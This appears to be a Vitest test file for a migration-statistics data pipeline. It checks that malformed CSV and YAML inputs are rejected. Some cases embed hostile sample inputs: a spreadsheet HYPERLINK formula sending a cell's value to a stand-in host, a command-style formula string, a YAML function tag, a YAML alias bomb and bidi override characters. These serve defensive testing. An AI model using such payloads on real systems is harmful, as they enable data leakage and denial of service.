/**
 * Every kind of broken input stops the pipeline with an InputError naming the file, line and
 * problem, and leaves the previous publication byte for byte as it was.
 *
 * Each case copies the fixture, injects one defect, and runs the pipeline into a folder that
 * already holds a good publication of the unbroken fixture.
 */
import { readFileSync } from 'node:fs';
import { appendFile, mkdir, readFile, rename, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { InputError } from '../../scripts/lib/errors.ts';
import { MAX_CELL_CHARS, MAX_FILE_BYTES } from '../../scripts/lib/input-rules.ts';
import type { SourceModule } from '../../scripts/lib/types.ts';
import { fixtureEurostatSource } from '../fixtures/pipeline/fixture-source.ts';
import { FIXTURE_DIR, copyFixture, hashTree, leftovers, makeTempDir, runFixture, type FixtureCopy } from '../fixtures/pipeline/helpers.ts';

const OBS_JK = 'curated/observations/japan-korea.csv';
const OBS_EU = 'curated/observations/europe.csv';
const SRC_JK = 'curated/sources/japan-korea.csv';
const SRC_EU = 'curated/sources/europe.csv';
const COUNTRIES = 'curated/countries.csv';
const REGS = 'curated/regularizations.csv';
const RULES = 'curated/rule_changes.csv';
const SERIES = 'series/fixture.yml';
/** Lines of the series fixture, so cases that append to it know where their lines land. */
const FIXTURE_SERIES_LINES = readFileSync(join(FIXTURE_DIR, SERIES), 'utf8').split('\n').length - 1;
const RAW = 'raw/eurostat_migr_eipre/migrants_illegally_present.csv';

/** Lines of the fixture files (header = 1), so expectations read as positions. */
const JK_LAST = 13; // japan-korea observations: header + 12 rows
const JK_SRC_LAST = 5; // japan-korea sources: header + 4 rows
const EU_LAST = 6; // europe observations: header + 4 rows, one note spans two lines

/** A valid observation row built from a real fixture row (Japan, 2023-07-01, ISA press release). */
const row = (over: Partial<Record<string, string>> = {}) => {
  const base: Record<string, string> = {
    series_id: 'jpn_overstayers',
    country_code: 'JPN',
    period: '2023-07-01',
    period_start: '',
    period_end: '',
    period_type: '',
    sex: '',
    age: '',
    citizenship_code: '',
    status: '',
    value: '79101',
    unit: 'persons',
    value_kind: 'count',
    flags: '',
    is_preferred: 'false',
    source_id: 'isa-press-2023-07',
    note: 'Test alternative.',
  };
  return Object.values({ ...base, ...over }).join(',');
};

type Mutate = (input: FixtureCopy) => Promise<void>;

interface Case {
  name: string;
  mutate: Mutate;
  /** Expected file, as a path suffix. */
  file: string;
  /** Expected line; 0 for whole-file problems. */
  line: number;
  column?: string | null;
  reason: RegExp;
  sources?: SourceModule[];
}

const path = (input: FixtureCopy, rel: string) => join(input.root, rel);
const edit = (rel: string, fn: (text: string) => string): Mutate => async (input) => {
  const p = path(input, rel);
  const before = await readFile(p, 'utf8');
  const after = fn(before);
  if (after === before) throw new Error(`mutation of ${rel} changed nothing`);
  await writeFile(p, after);
};
const editLine = (rel: string, line: number, fn: (l: string) => string) =>
  edit(rel, (text) => text.split('\n').map((l, i) => (i === line - 1 ? fn(l) : l)).join('\n'));
const append = (rel: string, line: string): Mutate => async (input) => appendFile(path(input, rel), `${line}\n`);
const both = (...ms: Mutate[]): Mutate => async (input) => {
  for (const m of ms) await m(input);
};

const cases: Case[] = [
  // --- file structure ----------------------------------------------------------------------
  {
    name: 'truncated file (last row cut mid-way)',
    mutate: edit(OBS_JK, (t) => t.trimEnd().slice(0, t.trimEnd().lastIndexOf(',27240'))),
    file: OBS_JK, line: JK_LAST, column: 'value', reason: /10 fields, the header has 17.*truncated/,
  },
  {
    name: 'truncated inside a quoted field',
    mutate: edit(OBS_EU, (t) => t.slice(0, t.indexOf('awaiting'))),
    file: OBS_EU, line: 4, reason: /unclosed quote/,
  },
  {
    name: 'unclosed quote in the middle of a file',
    mutate: editLine(SRC_JK, 5, (l) => l.replace(',2015-01-27,', ',"2015-01-27,')),
    file: SRC_JK, line: 5, reason: /unclosed quote/,
  },
  {
    name: 'wrong delimiter (semicolons)',
    mutate: edit(COUNTRIES, (t) => t.replace(/,/g, ';')),
    file: COUNTRIES, line: 1, reason: /wrong delimiter.*semicolons/,
  },
  {
    name: 'wrong delimiter (tabs)',
    mutate: edit(RULES, (t) => t.split('\n')[0].replace(/,/g, '\t') + '\n'),
    file: RULES, line: 1, reason: /wrong delimiter.*tabs/,
  },
  {
    name: 'invalid UTF-8 (Latin-1 byte)',
    mutate: async (input) => {
      const p = path(input, COUNTRIES);
      const text = await readFile(p, 'utf8');
      const i = Buffer.byteLength(text.slice(0, text.indexOf('Japón') + 3));
      const bytes = Buffer.from(text);
      // "ó" in Latin-1 is one byte 0xF3: what a file saved in the wrong encoding holds.
      await writeFile(p, Buffer.concat([bytes.subarray(0, i), Buffer.from([0xf3]), bytes.subarray(i + 2)]));
    },
    file: COUNTRIES, line: 2, reason: /invalid UTF-8 at byte offset \d+/,
  },
  { name: 'empty file', mutate: edit(COUNTRIES, () => ''), file: COUNTRIES, line: 0, reason: /empty/ },
  {
    name: 'missing column',
    mutate: editLine(OBS_JK, 1, (l) => l.replace(',flags', '')),
    file: OBS_JK, line: 1, reason: /missing column "flags"/,
  },
  {
    name: 'extra column',
    mutate: editLine(SRC_EU, 1, (l) => `${l},comment`),
    file: SRC_EU, line: 1, reason: /unexpected column "comment"/,
  },
  {
    name: 'misordered columns',
    mutate: editLine(REGS, 1, (l) => l.replace('start_date,end_date', 'end_date,start_date')),
    file: REGS, line: 1, reason: /out of order: position 6 is "end_date", expected "start_date"/,
  },
  {
    name: 'row with too many fields (unquoted comma)',
    mutate: append(OBS_JK, row({ note: 'one, two' })),
    file: OBS_JK, line: JK_LAST + 1, reason: /18 fields, the header has 17/,
  },
  {
    name: 'blank line inside a table',
    mutate: editLine(OBS_JK, 5, (l) => `${l}\n`),
    file: OBS_JK, line: 6, reason: /blank line/,
  },
  // --- cell typing ------------------------------------------------------------------------
  { name: 'NaN value', mutate: append(OBS_JK, row({ value: 'NaN' })), file: OBS_JK, line: JK_LAST + 1, column: 'value', reason: /"NaN" is not a plain number/ },
  { name: 'Infinity value', mutate: append(OBS_JK, row({ value: 'Infinity' })), file: OBS_JK, line: JK_LAST + 1, column: 'value', reason: /not a plain number/ },
  {
    name: 'thousands separator',
    mutate: append(OBS_JK, row({ value: '"79,101"' })),
    file: OBS_JK, line: JK_LAST + 1, column: 'value', reason: /no thousands separators/,
  },
  { name: 'blank (space) number', mutate: append(OBS_JK, row({ value: ' ' })), file: OBS_JK, line: JK_LAST + 1, column: 'value', reason: /not a plain number/ },
  { name: 'bad boolean', mutate: append(OBS_JK, row({ is_preferred: 'TRUE' })), file: OBS_JK, line: JK_LAST + 1, column: 'is_preferred', reason: /true or false/ },
  { name: 'empty required field', mutate: append(OBS_JK, row({ unit: '' })), file: OBS_JK, line: JK_LAST + 1, column: 'unit', reason: /required value is empty/ },
  { name: 'text cell with only spaces', mutate: append(OBS_JK, row({ note: '   ' })), file: OBS_JK, line: JK_LAST + 1, column: 'note', reason: /only spaces/ },
  { name: 'unknown unit word', mutate: append(OBS_JK, row({ unit: 'people' })), file: OBS_JK, line: JK_LAST + 1, column: 'unit', reason: /"people"/ },
  { name: 'bad flag letters', mutate: append(OBS_JK, row({ flags: 'x' })), file: OBS_JK, line: JK_LAST + 1, column: 'flags', reason: /"x"/ },
  { name: 'bad country code form', mutate: append(OBS_JK, row({ country_code: 'jp' })), file: OBS_JK, line: JK_LAST + 1, column: 'country_code', reason: /alpha-3/ },
  {
    name: 'non-integer approvals',
    mutate: editLine(REGS, 3, (l) => l.replace(',184199,', ',184199.5,')),
    file: REGS, line: 3, column: 'approvals', reason: /whole number/,
  },
  // --- references ------------------------------------------------------------------------
  { name: 'unknown country', mutate: append(OBS_JK, row({ country_code: 'PHL' })), file: OBS_JK, line: JK_LAST + 1, column: 'country_code', reason: /unknown country code "PHL"/ },
  { name: 'unknown series', mutate: append(OBS_JK, row({ series_id: 'jpn_overstayers_typo' })), file: OBS_JK, line: JK_LAST + 1, column: 'series_id', reason: /unknown series "jpn_overstayers_typo"/ },
  { name: 'unknown source', mutate: append(OBS_JK, row({ source_id: 'isa-press-2099-01' })), file: OBS_JK, line: JK_LAST + 1, column: 'source_id', reason: /unknown source "isa-press-2099-01"/ },
  {
    name: 'duplicate source id across files',
    mutate: async (input) => {
      const first = (await readFile(path(input, SRC_JK), 'utf8')).split('\n')[1];
      await appendFile(path(input, SRC_EU), `${first}\n`);
    },
    // sources/*.csv are read in name order, so europe.csv:9 comes first and japan-korea.csv:2 is the duplicate.
    file: SRC_JK, line: 2, column: 'source_id', reason: /duplicate source id "isa-press-2023-07" \(first defined at .*europe\.csv:9\)/,
  },
  {
    name: 'two source ids for one URL',
    mutate: async (input) => {
      const first = (await readFile(path(input, SRC_JK), 'utf8')).split('\n')[1];
      await appendFile(path(input, SRC_JK), `${first.replace(/^[^,]+/, 'isa-press-2023-07-copy')}\n`);
    },
    file: SRC_JK, line: JK_SRC_LAST + 1, column: 'url', reason: /duplicate source URL "https:\/\/www\.moj\.go\.jp.*" \(first defined at .*japan-korea\.csv:2\)/,
  },
  {
    name: 'bad url',
    mutate: editLine(SRC_JK, 2, (l) => l.replace('https://www.moj.go.jp', 'www.moj.go.jp')),
    file: SRC_JK, line: 2, column: 'url', reason: /url must be http/,
  },
  {
    name: 'source published on 30 February',
    mutate: editLine(SRC_JK, 3, (l) => l.replace(',2024-03-22,', ',2024-02-30,')),
    file: SRC_JK, line: 3, column: 'published', reason: /not a calendar date/,
  },
  {
    name: 'regularization with unknown other source',
    mutate: editLine(REGS, 3, (l) => l.replace(',klri-foreign-workers-act', ',klri-foreign-workers-act;no-such-source')),
    file: REGS, line: 3, column: 'other_source_ids', reason: /unknown source "no-such-source"/,
  },
  {
    name: 'duplicate regularization id',
    mutate: async (input) => appendFile(path(input, REGS), `${(await readFile(path(input, REGS), 'utf8')).split('\n')[2]}\n`),
    file: REGS, line: 4, column: 'regularization_id', reason: /duplicate regularization id "kor-2003-legalization"/,
  },
  {
    name: 'duplicate rule change id',
    mutate: async (input) => appendFile(path(input, RULES), `${(await readFile(path(input, RULES), 'utf8')).split('\n')[1]}\n`),
    file: RULES, line: 4, column: 'rule_change_id', reason: /duplicate rule change id "esp-2000-lo4"/,
  },
  {
    name: 'duplicate country code',
    mutate: append(COUNTRIES, 'JPN,Japan,,,,,false,'),
    file: COUNTRIES, line: 7, column: 'country_code', reason: /duplicate country code "JPN"/,
  },
  // --- values -------------------------------------------------------------------------------
  { name: 'negative count', mutate: append(OBS_JK, row({ value: '-5' })), file: OBS_JK, line: JK_LAST + 1, column: 'value', reason: /negative value -5/ },
  { name: 'absurd value', mutate: append(OBS_JK, row({ value: '7910100000' })), file: OBS_JK, line: JK_LAST + 1, column: 'value', reason: /implausible value 7910100000 persons/ },
  {
    name: 'unit differs from the series unit',
    mutate: append(OBS_JK, row({ unit: 'thousand_persons', value: '79.1' })),
    file: OBS_JK, line: JK_LAST + 1, column: 'unit', reason: /differs from the unit of series jpn_overstayers \("persons"\)/,
  },
  {
    name: 'rate that is not in percent',
    mutate: append(OBS_JK, row({ value_kind: 'rate', is_preferred: 'true' })),
    file: OBS_JK, line: JK_LAST + 1, column: 'unit', reason: /rate must be in percent/,
  },
  {
    name: 'percent above 100',
    mutate: both(
      edit(SERIES, (t) =>
        t.replace('- series_id: jpn_overstayers', '- series_id: jpn_overstayer_share\n  title: Test share\n  category: irregular_residence\n  unit: percent\n  definition: Test.\n  counts: Test.\n  excludes: Test.\n  measure: rate\n  breaks: []\n  comparability: []\n  preference_note: null\n- series_id: jpn_overstayers'),
      ),
      append(OBS_JK, row({ series_id: 'jpn_overstayer_share', unit: 'percent', value: '120', value_kind: 'rate', is_preferred: 'true' })),
    ),
    file: OBS_JK, line: JK_LAST + 1, column: 'value', reason: /rate 120 is above 100 percent/,
  },
  // --- periods ------------------------------------------------------------------------------
  { name: 'date before 1945', mutate: append(OBS_JK, row({ period: '1930', is_preferred: 'true' })), file: OBS_JK, line: JK_LAST + 1, column: 'period', reason: /before 1945/ },
  { name: 'date in the future', mutate: append(OBS_JK, row({ period: '2031-01-01', is_preferred: 'true' })), file: OBS_JK, line: JK_LAST + 1, column: 'period', reason: /ends after 2027-11-23, the horizon \(1 year after the release date\)/ },
  { name: '30 February', mutate: append(OBS_JK, row({ period: '2023-02-30', is_preferred: 'true' })), file: OBS_JK, line: JK_LAST + 1, column: 'period', reason: /2023-02-30 is not a calendar date/ },
  { name: 'bad period format', mutate: append(OBS_JK, row({ period: '2017H1', is_preferred: 'true' })), file: OBS_JK, line: JK_LAST + 1, column: 'period', reason: /period must be YYYY/ },
  {
    name: 'regularization ends before it starts',
    mutate: editLine(REGS, 3, (l) => l.replace(',2003-09,2003-11,', ',2003-12,2003-11,')),
    file: REGS, line: 3, column: 'end_date', reason: /end_date 2003-11 is before start_date 2003-12/,
  },
  {
    name: 'approvals above applications with no figures_note',
    mutate: editLine(REGS, 2, (l) => l.replace(',705404,634728,', ',605404,634728,').replace(/,Government report figures[^,]*,/, ',,')),
    file: REGS, line: 2, column: 'approvals', reason: /approvals \(634728\) exceed applications \(605404\)/,
  },
  {
    name: 'rule change with unknown category',
    mutate: editLine(RULES, 3, (l) => l.replace(',labour_migration_channel,', ',labour,')),
    file: RULES, line: 3, column: 'category', reason: /"labour"/,
  },
  {
    name: 'rule change on an impossible date',
    mutate: editLine(RULES, 2, (l) => l.replace(',2000-02-01,', ',2000-02-31,')),
    file: RULES, line: 2, column: 'date', reason: /not a calendar date/,
  },
  // --- keys and consistency ------------------------------------------------------------------
  {
    name: 'duplicate row (same key, source and value)',
    mutate: async (input) => appendFile(path(input, OBS_JK), `${(await readFile(path(input, OBS_JK), 'utf8')).split('\n')[1]}\n`),
    file: OBS_JK, line: JK_LAST + 1, reason: /duplicate row: same key, source and value as .*japan-korea\.csv:2/,
  },
  {
    name: 'two preferred rows for one key',
    mutate: editLine(OBS_JK, 11, (l) => l.replace(',false,', ',true,')),
    file: OBS_JK, line: 11, column: 'is_preferred', reason: /two preferred rows .* and .*japan-korea\.csv:10/,
  },
  {
    name: 'no preferred row for a key',
    mutate: editLine(OBS_JK, 10, (l) => l.replace(',true,', ',false,')),
    file: OBS_JK, line: 10, column: 'is_preferred', reason: /no preferred row/,
  },
  {
    name: 'estimate low above high',
    mutate: editLine(OBS_EU, 4, (l) => l.replace(',500000,', ',800000,')),
    file: OBS_EU, line: EU_LAST, column: 'value', reason: /estimate_high 700000 is below estimate_low 800000 \(.*europe\.csv:4\)/,
  },
  {
    name: 'central estimate outside its range',
    mutate: append(OBS_EU, 'ita_irregular_estimate_pew,ITA,2017-12-31,,,,,,,,900000,persons,estimate_central,,true,agi-pew-2019-11-15,'),
    file: OBS_EU, line: EU_LAST + 1, column: 'value', reason: /estimate_central 900000 is above estimate_high 700000/,
  },
  {
    name: 'breakdown above its total',
    mutate: editLine(OBS_JK, 4, (l) => l.replace(',49014,', ',89014,')),
    file: OBS_JK, line: 4, column: 'value', reason: /breakdown sex=male \(89014\) is above its total 79101 at .*japan-korea\.csv:3/,
  },
  // --- numbers that would publish something else (issue 16) ---------------------------------
  { name: 'value that underflows to zero', mutate: append(OBS_JK, row({ value: '1e-400' })), file: OBS_JK, line: JK_LAST + 1, column: 'value', reason: /"1e-400" is too small to store/ },
  { name: 'negative zero value', mutate: append(OBS_JK, row({ value: '-0' })), file: OBS_JK, line: JK_LAST + 1, column: 'value', reason: /negative zero/ },
  { name: 'value that overflows a double', mutate: append(OBS_JK, row({ value: '1e400' })), file: OBS_JK, line: JK_LAST + 1, column: 'value', reason: /not a finite number/ },
  // --- dates beyond the horizon, in every date column -----------------------------------------
  {
    name: 'rule change dated 2099',
    mutate: editLine(RULES, 2, (l) => l.replace(',2000-02-01,', ',2099-02-01,')),
    file: RULES, line: 2, column: 'date', reason: /date 2099-02-01 is after 2027-11-23, the horizon/,
  },
  {
    name: 'regularization starting in 2099',
    mutate: editLine(REGS, 3, (l) => l.replace(',2003-09,2003-11,', ',2099-09,2099-11,')),
    file: REGS, line: 3, column: 'start_date', reason: /date 2099-09 is after .* horizon/,
  },
  {
    name: 'regularization ending in 2099',
    mutate: editLine(REGS, 3, (l) => l.replace(',2003-09,2003-11,', ',2003-09,2099,')),
    file: REGS, line: 3, column: 'end_date', reason: /date 2099 is after .* horizon/,
  },
  {
    name: 'source published in 2099',
    mutate: editLine(SRC_JK, 3, (l) => l.replace(',2024-03-22,', ',2099-03-22,')),
    file: SRC_JK, line: 3, column: 'published', reason: /date 2099-03-22 is after .* horizon/,
  },
  {
    name: 'source accessed in 2099',
    mutate: editLine(SRC_JK, 3, (l) => l.replace(',2024-03-22,2026-11-23,', ',2024-03-22,2099-11-23,')),
    file: SRC_JK, line: 3, column: 'accessed', reason: /date 2099-11-23 is after .* horizon/,
  },
  {
    name: 'series break dated 2099',
    mutate: edit(SERIES, (t) => t.replace('    - date: 1997\n', '    - date: 2099\n')),
    file: SERIES, line: 2, column: 'breaks.date', reason: /date 2099 is after .* horizon/,
  },
  // --- text: controls, bidi overrides, formulas, size -----------------------------------------
  { name: 'NUL inside a note', mutate: append(OBS_JK, row({ note: 'Test\u0000alternative.' })), file: OBS_JK, line: JK_LAST + 1, column: 'note', reason: /control character U\+0000 at character 5/ },
  { name: 'tab inside a note', mutate: append(OBS_JK, row({ note: 'Test\talternative.' })), file: OBS_JK, line: JK_LAST + 1, column: 'note', reason: /control character U\+0009/ },
  {
    name: 'right-to-left override in a source title',
    mutate: editLine(SRC_JK, 2, (l) => l.replace(',本邦における', ',\u202e本邦における')),
    file: SRC_JK, line: 2, column: 'title', reason: /bidirectional control character U\+202E at character 1/,
  },
  {
    name: 'formula in a source title',
    mutate: editLine(SRC_JK, 2, (l) => l.replace(',本邦における不法残留者数について(令和5年7月1日現在),', ',"=HYPERLINK(""http://example.invalid/""&A2,""Open"")",')),
    file: SRC_JK, line: 2, column: 'title', reason: /starts with "=", which a spreadsheet would run as a formula/,
  },
  { name: 'formula in a note (minus sign)', mutate: append(OBS_JK, row({ note: '-2+3+cmd' })), file: OBS_JK, line: JK_LAST + 1, column: 'note', reason: /starts with "-"/ },
  {
    name: 'formula in a series YAML title',
    mutate: edit(SERIES, (t) => t.replace('  title: Overstayers in Japan\n', "  title: '@SUM(A1:A9)'\n")),
    file: SERIES, line: 3, column: 'title', reason: /starts with "@"/,
  },
  {
    name: 'bidi isolate inside a series YAML list',
    mutate: edit(SERIES, (t) => t.replace('      note: Reference date moved', '      note: "\\u2067Reference date moved').replace('from 1 May to 1 January.\n', 'from 1 May to 1 January."\n')),
    file: SERIES, line: 12, column: 'breaks[0].note', reason: /bidirectional control character U\+2067/,
  },
  {
    name: 'cell above the size limit',
    mutate: append(OBS_JK, row({ note: 'x'.repeat(MAX_CELL_CHARS + 1) })),
    file: OBS_JK, line: JK_LAST + 1, column: 'note', reason: new RegExp(`${MAX_CELL_CHARS + 1} characters is longer than the limit of ${MAX_CELL_CHARS}`),
  },
  {
    name: 'file above the size limit (refused before it is read)',
    // A sparse file: its size is past the limit, but it takes no disk space and is never read.
    mutate: async (input) => truncate(path(input, OBS_EU), MAX_FILE_BYTES + 1),
    file: OBS_EU, line: 0, reason: /larger than the limit of 67108864 bytes/,
  },
  // --- files that are not regular files ----------------------------------------------------------
  {
    name: 'curated CSV replaced by a symlink',
    mutate: async (input) => {
      const p = path(input, OBS_JK);
      await rename(p, `${p}.real`);
      await symlink(`${p}.real`, p);
    },
    file: OBS_JK, line: 0, reason: /symbolic link/,
  },
  {
    name: 'dangling symlink in place of a required file',
    mutate: async (input) => {
      await rm(path(input, REGS));
      await symlink(path(input, 'nowhere.csv'), path(input, REGS));
    },
    file: REGS, line: 0, reason: /symbolic link/,
  },
  {
    name: 'folder named like a CSV',
    mutate: async (input) => mkdir(path(input, 'curated/observations/zz-folder.csv')),
    file: 'curated/observations/zz-folder.csv', line: 0, reason: /not a regular file/,
  },
  {
    name: 'series YAML replaced by a symlink',
    mutate: async (input) => {
      const p = path(input, SERIES);
      await rename(p, `${p}.real`);
      await symlink(`${p}.real`, p);
    },
    file: SERIES, line: 0, reason: /symbolic link/,
  },
  // --- YAML beyond the core schema -------------------------------------------------------------
  {
    name: 'YAML tag outside the core schema (!!js/function)',
    mutate: edit(SERIES, (t) => t.replace('  title: Overstayers in Japan\n', "  title: !!js/function 'function () { return 1 }'\n")),
    file: SERIES, line: 3, reason: /YAML tag outside the core schema/,
  },
  {
    name: 'YAML local tag',
    mutate: edit(SERIES, (t) => t.replace('  unit: persons\n', '  unit: !unit persons\n')),
    file: SERIES, line: 5, reason: /YAML tag outside the core schema/,
  },
  {
    name: 'YAML alias bomb',
    // Nine levels of nine aliases: a few hundred bytes that expand to 9^9 strings.
    mutate: edit(SERIES, (t) => {
      const levels = ['    - &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]'];
      for (let k = 1; k < 9; k++) levels.push(`    - &${String.fromCharCode(97 + k)} [${Array(9).fill(`*${String.fromCharCode(96 + k)}`).join(', ')}]`);
      return `${t}- series_id: bomb\n  title: Bomb\n  category: irregular_residence\n  unit: persons\n  definition: x\n  counts: x\n  excludes: x\n  measure: stock\n  breaks: []\n  comparability:\n${levels.join('\n')}\n  preference_note: null\n`;
    }),
    // The first alias (*a) is on the second level: 12 lines below the fixture's last line.
    file: SERIES, line: FIXTURE_SERIES_LINES + 12, reason: /YAML alias \*a is not allowed/,
  },
  // --- country codes (issue 9) ---------------------------------------------------------------------
  {
    name: 'country code that is not ISO 3166-1 (XQZ)',
    mutate: append(COUNTRIES, 'XQZ,Nowhere,,,,,false,'),
    file: COUNTRIES, line: 7, column: 'country_code', reason: /"XQZ" is not an ISO 3166-1 alpha-3 country code/,
  },
  {
    name: 'duplicate country name',
    mutate: append(COUNTRIES, 'PHL,Japan,,,,,false,'),
    file: COUNTRIES, line: 7, column: 'name_en', reason: /duplicate country name "Japan" \(first used at .*countries\.csv:2\)/,
  },
  {
    name: 'aggregate not flagged as one',
    mutate: editLine(COUNTRIES, 6, (l) => l.replace(',true,', ',false,')),
    file: COUNTRIES, line: 6, column: 'is_aggregate', reason: /EU27_2020 is an aggregate/,
  },
  // --- series YAML ----------------------------------------------------------------------------
  {
    name: 'series YAML malformed',
    mutate: editLine(SERIES, 4, (l) => l.replace('  category: irregular_residence', '  category: [irregular_residence')),
    // The bracket opens on line 4; the parser notices on line 5, where the next key should have closed it.
    file: SERIES, line: 5, reason: /malformed YAML: Flow sequence/,
  },
  {
    name: 'series YAML missing field',
    mutate: edit(SERIES, (t) => t.replace('  excludes: People who entered illegally (no landing record).\n', '')),
    file: SERIES, line: 2, column: 'excludes', reason: /required field is missing/,
  },
  {
    name: 'series YAML unknown field',
    mutate: editLine(SERIES, 5, (l) => l.replace('  unit: persons', '  units: persons')),
    file: SERIES, line: 5, column: 'units', reason: /unknown field "units"/,
  },
  {
    name: 'series YAML bad value inside a list',
    mutate: edit(SERIES, (t) => t.replace("    - country_code: JPN\n", '    - country_code: Japan\n')),
    file: SERIES, line: 14, column: 'comparability[0].country_code', reason: /"Japan"/,
  },
  {
    name: 'series YAML comparability for an unknown country',
    mutate: edit(SERIES, (t) => t.replace("    - country_code: JPN\n", '    - country_code: PHL\n')),
    file: SERIES, line: 2, column: 'comparability.country_code', reason: /unknown country code "PHL"/,
  },
  {
    name: 'duplicate series id across YAML files',
    mutate: async (input) => {
      const text = await readFile(path(input, SERIES), 'utf8');
      await writeFile(path(input, 'series/zz-more.yml'), text.slice(text.indexOf('- series_id: kor_illegal_stay'), text.indexOf('- series_id: ita_irregular_estimate_ismu')));
    },
    file: 'series/zz-more.yml', line: 1, column: 'series_id', reason: /duplicate series id "kor_illegal_stay" \(first defined at .*fixture\.yml:\d+\)/,
  },
  // --- source modules -------------------------------------------------------------------------
  {
    name: 'Eurostat module throwing InputError (unknown geo in the raw file)',
    mutate: editLine(RAW, 3, (l) => l.replace(',Spain,', ',Atlantis,')),
    file: RAW, line: 3, column: 'geo', reason: /unknown geo label "Atlantis"/,
  },
  {
    name: 'Eurostat module returning a non-number value',
    mutate: editLine(RAW, 4, (l) => l.replace(',37295,', ',:,')),
    file: RAW, line: 4, column: 'value', reason: /NaN/,
  },
  {
    name: 'module whose id has no source row',
    mutate: async () => {},
    sources: [{ ...fixtureEurostatSource, id: 'eurostat-migr-nowhere' }],
    file: 'scripts/sources/eurostat-migr-nowhere.ts', line: 0, column: 'id', reason: /has no row in data\/curated\/sources/,
  },
  {
    name: 'module rows breaking a cross-table rule (negative value)',
    mutate: editLine(RAW, 2, (l) => l.replace(',47885,', ',-47885,')),
    file: RAW, line: 2, column: 'value', reason: /negative value/,
  },
];

let base: string;
let outDir: string;
let published: Record<string, string>;

beforeAll(async () => {
  base = await makeTempDir('atlas-bad-input-');
  outDir = join(base, 'public', 'data');
  await runFixture(await copyFixture(base, 'good'), outDir);
  published = await hashTree(outDir);
});

afterAll(async () => {
  await rm(base, { recursive: true, force: true });
});

describe('bad input stops the pipeline and leaves the publication untouched', () => {
  it('has at least 30 distinct cases', () => {
    expect(new Set(cases.map((c) => c.name)).size).toBe(cases.length);
    expect(cases.length).toBeGreaterThanOrEqual(30);
    expect(Object.keys(published)).toContain('observations.parquet');
  });

  it.each(cases.map((c, i) => [c.name, c, i] as const))('%s', async (_name, c, i) => {
    const input = await copyFixture(base, `case-${i}`);
    await c.mutate(input);
    const error = await runFixture(input, outDir, c.sources ? { sources: c.sources } : {}).then(
      () => null,
      (e: unknown) => e,
    );
    expect(error, 'the pipeline should have thrown').toBeInstanceOf(InputError);
    const e = error as InputError;
    expect(e.file.endsWith(c.file), `file ${e.file}`).toBe(true);
    expect(e.line, `line (${e.message})`).toBe(c.line);
    if (c.column !== undefined) expect(e.column, e.message).toBe(c.column);
    expect(e.reason).toMatch(c.reason);
    expect(e.message).toContain(e.reason);
    expect(await hashTree(outDir)).toEqual(published);
    expect(await leftovers(outDir)).toEqual([]);
  });
});
